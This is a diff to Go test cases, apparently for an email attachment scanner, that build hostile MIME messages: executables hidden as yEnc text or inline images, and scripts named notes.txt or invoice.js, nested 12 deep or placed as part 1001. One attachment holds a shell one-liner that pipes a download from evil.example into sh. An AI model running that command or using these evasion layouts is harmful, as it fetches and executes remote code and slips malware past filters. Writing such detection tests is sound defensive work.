@@ -348,7 +348,10 @@ func Hostile() []Case {
 	add("yenc-in-text", "report.exe yEnc-encoded in a text body", Leaf("Content-Type: text/plain", "Here:\r\n"+YEnc("report.exe", pe)))
 	add("exe-as-inline-image", "the program as an inline image/png with no name",
 		Multipart("b", Leaf("Content-Type: text/html", "<p>hi<img src=\"cid:x\"></p>\r\n"), Leaf("Content-Type: image/png\r\nContent-ID: <x>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64", B64(pe))))
-	add("script-shebang", "a shell script with a shebang, named notes.txt", Multipart("b", text, Attach("text/plain", "notes.txt", []byte("#!/bin/sh\ncurl -s http://evil.example/x | sh\n"))))
+	add("script-shebang-nested-12", "a shell script (shebang) named notes.txt, nested 12 deep",
+		nest(12, Attach("text/plain", "notes.txt", []byte("#!/bin/sh\ncurl -s http://evil.example/x | sh\n"))))
+	add("js-nested-12", "a .js script nested 12 deep", nest(12, Attach("application/octet-stream", "invoice.js", []byte(Script))))
+	add("js-part-1001", "a .js script as part 1001", Multipart("b", append(many, Attach("application/octet-stream", "invoice.js", []byte(Script)))...))
 	return c
 }
 
